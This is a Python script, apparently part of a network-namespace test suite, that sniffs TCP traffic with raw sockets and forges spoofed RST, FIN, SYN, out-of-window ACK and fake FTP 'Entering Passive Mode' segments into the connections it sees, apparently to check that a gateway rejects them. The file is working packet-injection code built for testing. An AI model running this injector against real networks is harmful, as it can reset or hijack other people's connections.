#!/usr/bin/env python3
"""An off-path attacker for the namespace tests: forges TCP segments into connections it sees.

  tcp-forge.py --iface IF --gateway ADDR --secs S --out FILE [--every MS] [--ports P,P,...]
               [--wait-conns N --wait-max W]

Runs in the namespace of the servers (`wan`): sniffs IF (AF_PACKET) for TCP segments the gateway ADDR
sends to local servers, and for every such connection (optionally only those whose server port is in
--ports) sends, every MS milliseconds for S seconds, segments that claim to come from the server
(spoofed by construction: the forger is not the server's socket) with numbers an attacker off the
path can produce:

  rst        RST, sequence number at least 2^24 away from the server's real one
  rstack     RST|ACK, sequence and acknowledgement numbers at random, far from the real ones
  ackbeyond  ACK with the server's real sequence number and an acknowledgement 10^8 beyond the client's
             next byte (what one sniffed ACK shows, as a blind attacker guessing well would)
  fin        FIN|ACK at a far sequence number
  data       PSH|ACK carrying "227 Entering Passive Mode (10,0,0,2,4,1).\\r\\n", far sequence number
  syn        SYN with a random sequence number

Writes to FILE a JSON object: how many of each kind it sent and how many connections it attacked.
With --wait-conns N the attack's S seconds start once N connections were seen (at most W seconds of
sniffing first), so the attack lands inside the transfer whatever the machine's load.
Raw sockets only (socket module, IP_HDRINCL): no scapy. Every loop is bounded by --wait-max + --secs.
"""
import argparse
import json
import os
import random
import select
import socket
import struct
import time

ETH_P_ALL = 0x0003
FAR = 1 << 24


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def segment(src, sport, dst, dport, seq, ack, flags, payload=b"", window=64000):
    offset = 5 << 4
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, offset, flags,
                      window, 0, 0) + payload
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    c = csum(pseudo + tcp)
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    total = 20 + len(tcp)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, random.randrange(65536), 0x4000, 64, 6, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def far(x):
    return (x + FAR + random.randrange((1 << 32) - 2 * FAR)) & 0xFFFFFFFF


def parse(frame):
    """A TCP segment in a raw IPv4 packet: (src, sport, dst, dport, seq, ack, flags, payload length)."""
    if len(frame) < 40 or frame[0] >> 4 != 4 or frame[9] != 6:
        return None
    ihl = (frame[0] & 15) * 4
    total = struct.unpack("!H", frame[2:4])[0]
    t = frame[ihl:total]
    if len(t) < 20:
        return None
    sport, dport, seq, ack, off, flags = struct.unpack("!HHIIBB", t[:14])
    plen = len(t) - (off >> 4) * 4
    return (socket.inet_ntoa(frame[12:16]), sport, socket.inet_ntoa(frame[16:20]), dport, seq, ack, flags,
            plen)


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--iface", required=True)
    p.add_argument("--gateway", required=True)
    p.add_argument("--secs", type=float, required=True)
    p.add_argument("--every", type=float, default=100.0, help="milliseconds between rounds")
    p.add_argument("--ports", default="", help="only connections whose server port is one of these")
    p.add_argument("--wait-conns", type=int, default=0,
                   help="sniff (forging nothing) until this many connections were seen, at most --wait-max s")
    p.add_argument("--wait-max", type=float, default=10.0)
    p.add_argument("--out", required=True)
    a = p.parse_args()
    ports = {int(x) for x in a.ports.split(",") if x}
    random.seed(os.getpid() ^ int(time.time()))

    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sniff.bind((a.iface, 0))
    send = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    send.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)

    # (server addr, server port, gateway addr, public port) -> (client seq end, client ack)
    conns = {}
    counts = {k: 0 for k in ("rst", "rstack", "ackbeyond", "fin", "data", "syn")}
    # The attack's clock starts once the connections to attack are known (or the wait is over).
    wait_until = time.monotonic() + a.wait_max
    end = None if a.wait_conns > 0 else time.monotonic() + a.secs
    next_round = time.monotonic() + a.every / 1000
    while end is None or time.monotonic() < end:
        if end is None and (len(conns) >= a.wait_conns or time.monotonic() >= wait_until):
            end = time.monotonic() + a.secs
        if end is None:
            r, _, _ = select.select([sniff], [], [], max(0.0, wait_until - time.monotonic()))
            if r:
                s = parse(sniff.recv(65535))
                if s and s[0] == a.gateway and not (s[6] & 0x04):
                    src, sport, dst, dport, seq, ack, flags, plen = s
                    if not ports or dport in ports:
                        conns[(dst, dport, src, sport)] = ((seq + plen) & 0xFFFFFFFF, ack)
            continue
        r, _, _ = select.select([sniff], [], [], max(0.0, min(next_round, end) - time.monotonic()))
        if r:
            frame = sniff.recv(65535)
            s = parse(frame)
            if s and s[0] == a.gateway and not (s[6] & 0x04):
                src, sport, dst, dport, seq, ack, flags, plen = s
                if not ports or dport in ports:
                    conns[(dst, dport, src, sport)] = ((seq + plen) & 0xFFFFFFFF, ack)
        if time.monotonic() < next_round:
            continue
        next_round = time.monotonic() + a.every / 1000
        for (saddr, sport, gw, gport), (c_end, c_ack) in list(conns.items()):
            # c_ack: the server's next sequence number as the client acknowledged it; c_end: the client's.
            pkts = [
                ("rst", segment(saddr, sport, gw, gport, far(c_ack), 0, 0x04)),
                ("rstack", segment(saddr, sport, gw, gport, far(c_ack), far(c_end), 0x14)),
                ("ackbeyond", segment(saddr, sport, gw, gport, c_ack, c_end + 100_000_000, 0x10)),
                ("fin", segment(saddr, sport, gw, gport, far(c_ack), far(c_end), 0x11)),
                ("data", segment(saddr, sport, gw, gport, far(c_ack), far(c_end), 0x18,
                                 b"227 Entering Passive Mode (10,0,0,2,4,1).\r\n")),
                ("syn", segment(saddr, sport, gw, gport, random.randrange(1 << 32), 0, 0x02)),
            ]
            for kind, pkt in pkts:
                send.sendto(pkt, (gw, 0))
                counts[kind] += 1
    with open(a.out, "w") as f:
        json.dump({"connections": len(conns), "sent": counts}, f)
    print("forged", json.dumps(counts), "into", len(conns), "connection(s)", flush=True)


if __name__ == "__main__":
    main()
